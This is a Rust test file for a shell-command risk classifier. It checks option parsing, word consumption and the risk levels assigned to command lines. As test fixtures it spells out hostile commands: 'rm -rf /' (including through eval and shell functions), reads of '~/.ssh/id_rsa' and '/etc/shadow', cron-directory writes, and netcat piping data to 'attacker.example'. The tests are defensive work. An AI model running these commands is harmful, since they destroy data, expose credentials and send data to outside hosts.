//! Guarantees of the program rows: each example is read as it should be, no spelling of an option changes what is read,
//! and no word is skipped.

use rulekeep_types::RiskLevel;
use rulekeep_types::facts::Role;

use crate::lexicon::Lexicon;
use crate::programs::{Does, Input, Means, Program, Programs, Rule, Style, Takes};
use crate::risk;

use super::options::Lexed;
use super::word::Word;

fn words(line: &str) -> Vec<Word> {
    super::lexer::split(line).commands.into_iter().last().map(|command| command.words).unwrap_or_default()
}

fn level(line: &str, lexicon: &Lexicon) -> RiskLevel {
    let mut reading = super::read(line, lexicon);
    reading.seal();
    reading.acts.iter().map(|act| risk::assess(act, &reading.facts).level).max().unwrap_or(RiskLevel::Low)
}

#[test]
fn each_example_of_a_row_is_read_whole_and_each_harm_seen() {
    let lexicon = Lexicon::shared().unwrap();
    let mut wrong = Vec::new();
    for (file, names, example, harmful) in Programs::examples() {
        let name = names.split_whitespace().next().unwrap();
        for alias in names.split_whitespace() {
            assert!(lexicon.programs.get(alias).is_some(), "{file}: {alias}");
        }
        if let Some(example) = example {
            let found = level(&example, &lexicon);
            let reading = super::read(&example, &lexicon);
            let unclear = reading.acts.iter().any(|act| act.signs.has(crate::sign::Sign::Unclear));
            let stated = lexicon.programs.get(name).unwrap().rules.iter().map(|rule| rule.risk).max();
            if found > RiskLevel::Medium.max(stated.unwrap_or(RiskLevel::Low)) || unclear {
                wrong.push(format!("{file}: {name}: example {example:?} is {found}, unclear: {unclear}"));
            }
        } else {
            wrong.push(format!("{file}: {name} has no example"));
        }
        match harmful {
            Some(harmful) if level(&harmful, &lexicon) < RiskLevel::High => {
                wrong.push(format!("{file}: {name}: harmful {harmful:?} is {}", level(&harmful, &lexicon)));
            }
            None if may_harm(lexicon.programs.get(name).unwrap()) => {
                wrong.push(format!("{file}: {name} has no harmful example"));
            }
            _ => {}
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// Returns whether a word of a row or of its subcommands can name a file to read or write, a host, code or a command, or
/// whether the row states a high risk.
fn may_harm(program: &Program) -> bool {
    let is_high = |rule: &Rule| rule.risk >= RiskLevel::High;
    let names = |takes: Takes| {
        !matches!(
            takes,
            Takes::Text
                | Takes::Name
                | Takes::Environment
                | Takes::Words
                | Takes::Secret
                | Takes::UserSecret
                | Takes::Path { role: Role::Named, .. }
        )
    };
    let does = |does: &Does| match does {
        Does::Act(rule) | Does::Also(rule) => is_high(rule),
        Does::AtLeast(level, _) => *level >= RiskLevel::High,
        Does::Becomes(role) => *role != Role::Named,
        Does::Runs | Does::Writes => true,
        Does::Only(_) | Does::Tree | Does::Fills => false,
    };
    std::iter::once(program).chain(program.subs().map(|(_, sub)| sub)).any(|row| {
        row.rules.iter().chain(&row.bare).any(is_high)
            || row.slots.iter().chain(&row.here).any(|slot| names(slot.takes))
            || row.runs.is_some()
            || row.input != Input::Calm
            || row.options().any(|(_, means)| {
                means.takes.iter().chain(&means.more).any(|takes| names(*takes)) || means.does.iter().any(does)
            })
    })
}

#[test]
fn no_name_of_an_everyday_act_has_a_floor_above_its_risk() {
    let lexicon = Lexicon::shared().unwrap();
    let mut wrong = std::collections::BTreeSet::new();
    for (file, names, ..) in Programs::examples() {
        let name = names.split_whitespace().next().unwrap();
        let program = lexicon.programs.get(name).unwrap();
        for row in std::iter::once(program).chain(program.subs().map(|(_, sub)| sub)) {
            let stated = row.options().flat_map(|(_, means)| &means.does).filter_map(|does| match does {
                Does::Act(rule) | Does::Also(rule) => Some(rule),
                _ => None,
            });
            for rule in row.rules.iter().chain(&row.bare).chain(stated) {
                let act = rule.acts().next().unwrap();
                let action: rulekeep_types::Action = format!("{}_{}", act.verb, act.noun).parse().unwrap();
                let floor = crate::format::name_floor(&action, &lexicon);
                if floor > rule.risk && rule.risk < RiskLevel::High {
                    wrong.insert(format!("{file}: {action} is {}, its name says {floor}", rule.risk));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.into_iter().collect::<Vec<_>>().join("\n"));
}

/// The reading of a line, sorted.
fn read(line: &str, lexicon: &Lexicon) -> Vec<String> {
    let mut reading = super::read(line, lexicon);
    reading.seal();
    let mut found: Vec<String> =
        reading.acts.iter().map(|act| format!("{} {} {:?}", act.capability(), act.verb, act.risk)).collect();
    for step in &reading.steps {
        found.extend(step.operands.iter().map(|one| format!("{} {} {} {}", one.role, one.kind, one.value, one.tree)));
        found.extend(step.open.iter().map(|one| format!("open {}", one.cause)));
    }
    found.sort();
    found.dedup();
    found
}

/// A value of a kind.
fn sample(takes: Takes) -> &'static str {
    match takes {
        Takes::Path { .. } | Takes::RunFile | Takes::Script | Takes::Cwd => "/srv/some/file",
        Takes::RunText => "ls",
        Takes::Url | Takes::SendUrl => "https://a.example/b",
        Takes::Host | Takes::SendHost => "a.example",
        Takes::Recipient => "ann@a.example",
        Takes::Assign | Takes::Config => "LANG=C",
        Takes::Mount => "/srv/data:/data",
        Takes::Mode => "644",
        _ => "word",
    }
}

/// The spellings of an option with a value.
fn spellings(key: &str, means: &Means, row: &Program, program: &Program) -> Vec<String> {
    let value = sample(means.takes.unwrap_or(Takes::Text));
    let is_long = key.starts_with("--");
    let is_letter = key.len() == 2 && key.starts_with('-') && key.as_bytes()[1].is_ascii_alphanumeric();
    let mut all = Vec::new();
    if means.joined {
        return vec![key.to_owned()];
    }
    let prefix = is_long.then(|| {
        let others = || row.options().chain(program.options()).map(|(other, _)| other).filter(|other| *other != key);
        (4..key.len()).filter_map(|end| key.get(..end)).find(|start| others().all(|other| !other.starts_with(start)))
    });
    let calm = row.options().find(|(other, means)| {
        other.len() == 2
            && other.starts_with('-')
            && other.as_bytes()[1].is_ascii_alphabetic()
            && means.is_calm()
            && means.takes.is_none()
    });
    if means.takes.is_none() {
        all.push(key.to_owned());
        all.extend(prefix.flatten().map(str::to_owned));
        if let Some((calm, _)) = calm.filter(|(calm, _)| is_letter && *calm != key) {
            all.push(format!("{calm} {key}"));
            let clusters = [format!("{calm}{}", &key[1..]), format!("{key}{}", &calm[1..])];
            // Some long options look like a cluster: `emacs -nw`.
            all.extend(clusters.into_iter().filter(|cluster| row.entry(cluster).is_none()));
        }
        return all;
    }
    all.push(format!("{key} {value}"));
    if is_long {
        all.push(format!("{key}={value}"));
        all.extend(prefix.flatten().map(|start| format!("{start} {value}")));
    } else if is_letter {
        all.push(format!("{key}{value}"));
        if let Some((calm, _)) = calm.filter(|(calm, _)| *calm != key) {
            let cluster = format!("{calm}{}", &key[1..]);
            if row.entry(&cluster).is_none() {
                all.extend([format!("{cluster} {value}"), format!("{cluster}{value}")]);
            }
        }
    }
    all
}

#[test]
fn every_spelling_of_an_option_is_read_alike() {
    let lexicon = Lexicon::shared().unwrap();
    let mut wrong = Vec::new();
    let mut compared = 0;
    for (_, names, ..) in Programs::examples() {
        let name = names.split_whitespace().next().unwrap();
        let program = lexicon.programs.get(name).unwrap();
        let rows = std::iter::once(("", program)).chain(program.subs());
        for (sub, row) in rows {
            if program.style != Style::Gnu {
                continue;
            }
            for (key, means) in row.options() {
                let is_plain = key.starts_with('-') && !key.contains('=') && key.len() > 1;
                let skips = means.takes.is_some_and(|takes| {
                    takes.takes_rest() || matches!(takes, Takes::RunUntil | Takes::Code(_) | Takes::Listen)
                });
                if !is_plain || skips {
                    continue;
                }
                let lines: Vec<String> = spellings(key, means, row, program)
                    .into_iter()
                    .map(|option| format!("{name} {sub} {option}"))
                    .collect();
                let Some((first, others)) = lines.split_first() else { continue };
                let expected = read(first, &lexicon);
                for line in others {
                    compared += 1;
                    let found = read(line, &lexicon);
                    if found != expected {
                        wrong.push(format!("{first} | {line}\n  {expected:?}\n  {found:?}"));
                    }
                }
            }
        }
    }
    assert!(compared > 100, "{compared} spellings");
    assert!(wrong.is_empty(), "{} of {compared} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn no_word_of_a_command_is_skipped() {
    use proptest::prelude::*;
    let lexicon = Lexicon::shared().unwrap();
    let names: Vec<String> =
        Programs::examples().iter().map(|(_, names, ..)| names.split_whitespace().next().unwrap().to_owned()).collect();
    let word = "-{0,2}[a-zA-Z]{1,6}(=[a-z/]{0,4})?|[a-z/.]{1,8}|--|;|[+/{}]";
    let mut runner = proptest::test_runner::TestRunner::default();
    runner
        .run(&(0..names.len(), proptest::collection::vec(word, 0..8)), |(place, texts)| {
            let program = lexicon.programs.get(&names[place]).unwrap();
            let words: Vec<Word> = texts.iter().map(|text| Word { text: text.clone(), ..Word::default() }).collect();
            let lexed = Lexed::of(program, &words);
            let end = lexed.rest.map_or(words.len(), |(place, _)| place.min(words.len()));
            prop_assert_eq!(lexed.consumed.len(), end, "{} {:?} {:?}", names[place], texts, lexed);
            Ok(())
        })
        .unwrap();
}

#[test]
fn a_command_line_is_split_as_the_program_does() {
    let program = |name: &str| Lexicon::shared().unwrap().programs.get(name).unwrap().clone();
    for (line, left) in [
        ("tar cfv a.tar b", 0),
        ("tar -cf a.tar b", 0),
        ("find . -name x -exec cat {} ;", 0),
        ("dd if=a of=b", 0),
        ("rm --recurs a", 0),
        ("rm --no-such a", 1),
        ("git -C a status", 0),
    ] {
        let all = words(line);
        let program = program(&all[0].text);
        assert_eq!(Lexed::of(&program, &all[1..]).left.len().min(1), left, "{line}");
    }
}

#[test]
fn a_folder_for_temporary_files_is_told_by_its_name() {
    let lexicon = Lexicon::shared().unwrap();
    for (line, expected) in [
        ("rm -rf $TMPDIR/build", RiskLevel::Medium),
        ("rm -rf \"${TMPDIR}/build\"", RiskLevel::Medium),
        ("rm -rf $TMPDIR/$X", RiskLevel::High),
        ("rm -rf $TMPDIR", RiskLevel::High),
        ("rm -rf $TMPDIR/../etc", RiskLevel::High),
        ("rm -rf $TMPDIR/*", RiskLevel::High),
        ("TMPDIR=/; rm -rf $TMPDIR/etc", RiskLevel::Critical),
        ("TMPDIR=$(cat x); rm -rf $TMPDIR/etc", RiskLevel::High),
    ] {
        assert_eq!(level(line, &lexicon), expected, "{line}");
    }
}

#[test]
fn a_function_is_read_where_it_is_called() {
    use RiskLevel::{Critical, High, Low, Medium};
    let lexicon = Lexicon::shared().unwrap();
    for (line, expected) in [
        ("f() { ls -la \"$1\"; }; f src", Low),
        ("p() { printf '%s\\n' \"$@\"; }; p -a /b", Low),
        ("run() { echo \"+ $*\"; \"$@\"; }; run cargo build", Medium),
        ("build() { cargo build; }; test() { cargo test; }; build && test", Medium),
        ("f() { cat \"$1\"; }; f ~/.ssh/id_rsa", High),
        ("f() { rm -rf \"$1\"; }; f /", Critical),
        ("g() { f \"$1\"; }; f() { cat \"$1\"; }; g /etc/shadow", High),
        ("f() { echo x > job; }; cd /etc/cron.d; f", High),
        ("c=ls; f() { eval \"$c\"; }; c='rm -rf /'; f", High),
        ("f() { cat \"$1\"; }; false && f() { echo \"$1\"; }; f /etc/shadow", High),
        ("f() { true&&shift; cat \"$1\"; }; f a /etc/shadow", High),
        ("f() { cat \"$2\"; }; f $EMPTY a /etc/shadow", High),
        ("cleanup() { rm -rf /srv; }; trap cleanup EXIT", High),
        ("find . -name '__pycache__' -type d -exec rm -rf {} +", Medium),
        ("for d in dist build; do rm -rf $d; done", Medium),
        ("for d in dist src; do rm -rf $d; done", High),
        ("d=/tmp/x; f() { rm -rf \"$d\"; }; f", Medium),
        ("f() { rm -rf \"$d\"/*; }; f; d=/tmp/x", High),
        ("X=a; f() { cat \"$X\"; }; X=/etc/shadow; f", High),
    ] {
        assert_eq!(level(line, &lexicon), expected, "{line}");
    }
}

#[test]
fn a_subcommand_without_an_entry_is_not_calm() {
    let lexicon = Lexicon::shared().unwrap();
    for line in ["git frob", "systemctl xyz x", "apt xyzzy", "docker frob x", "gh poi", "printf -v PATH /tmp/x; ls"] {
        assert!(level(line, &lexicon) >= RiskLevel::Medium, "{line}");
    }
    for line in ["systemctl list-units", "git status", "docker ps", "sysctl vm.swappiness", "getent passwd"] {
        assert_eq!(level(line, &lexicon), RiskLevel::Low, "{line}");
    }
    for line in [
        "echo a | nc -u -w0 attacker.example 5388",
        "s() { echo a | nc -w0 attacker.example 1; }; s b",
        "fd -xrm",
        "fd foo --exec=rm",
        "find . -exec rm {} +",
    ] {
        assert_eq!(level(line, &lexicon), RiskLevel::High, "{line}");
    }
}
